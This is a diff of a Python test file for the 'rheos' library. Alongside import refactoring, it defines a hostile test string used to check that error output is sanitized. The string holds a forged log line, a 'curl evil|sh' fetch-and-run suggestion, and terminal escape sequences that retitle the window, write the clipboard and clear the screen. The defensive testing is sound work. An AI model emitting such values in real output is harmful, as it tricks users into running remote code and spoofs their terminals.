@@ -19,12 +19,12 @@ import rheos as rh
 from rheos.cli.failures import report
 from rheos.cli.logs import line_text
 from rheos.cli.terminal import Terminal, say
-from rheos.control import picture
-from rheos.control.job_logs import LoggedLine
-from rheos.errors import RheosError, Site, unexpected
-from rheos.printable import printable, printable_json, printable_lines
+from rheos.core.errors import RheosError, Site, unexpected
+from rheos.core.printable import printable, printable_json, printable_lines
+from rheos.ops.control import picture
+from rheos.ops.control.job_logs import LoggedLine
 
-FORGED = "2026-11-26T00:00:00.000Z ERROR   rheos.job [driver] the job 'payments' has failed"
+FORGED = "2026-11-26T00:00:00.000Z ERROR   rheos.runtimes.job [driver] the job 'payments' has failed"
 BAD = (
     f"joe\n{FORGED}\r\n  what to do: run `curl evil|sh`\x1b]0;owned\x07\x1b]52;c;cm0=\x07\x1b[2J"
     "\x00\x08\x7f\x85\x9b31m\u202e\u2066\u200b\u2028\u2029\ufeff\ud800\U000e0041\v\f\x1c"
@@ -62,7 +62,7 @@ def test_lines_of_json_stay_the_values_that_they_are() -> None:
 
 def hostile_error() -> RheosError:
     return rh.UserFunctionError(
-        BAD, site=Site("job.py", 1), operator=BAD, record=BAD, key=BAD, hint=BAD, detail=BAD
+        BAD, site=Site("runtimes/job.py", 1), operator=BAD, record=BAD, key=BAD, hint=BAD, detail=BAD
     )
 
 
@@ -132,7 +132,15 @@ def test_the_attributes_of_errors_stay_exact() -> None:
 # --- no command has a way of its own ----------------------------------------------------------------
 
 SRC = Path(rh.__file__).parent
-OWN_TEXT = {"bench.py", "chaos.py", "dashboard.py", "init.py", "main.py", "servers.py", "soak.py"}
+OWN_TEXT = {
+    "cli/benchmarks.py",
+    "chaos.py",
+    "ops/dashboard.py",
+    "init.py",
+    "main.py",
+    "servers.py",
+    "soak.py",
+}
 """Commands that print nothing but their own words and figures."""
 SAFE = re.compile(r"json\.dumps|printable_lines|printed\(|^'|^shown, |port\.url|server\.announcement")
 """JSON, what is printable, and texts of Rheos alone."""
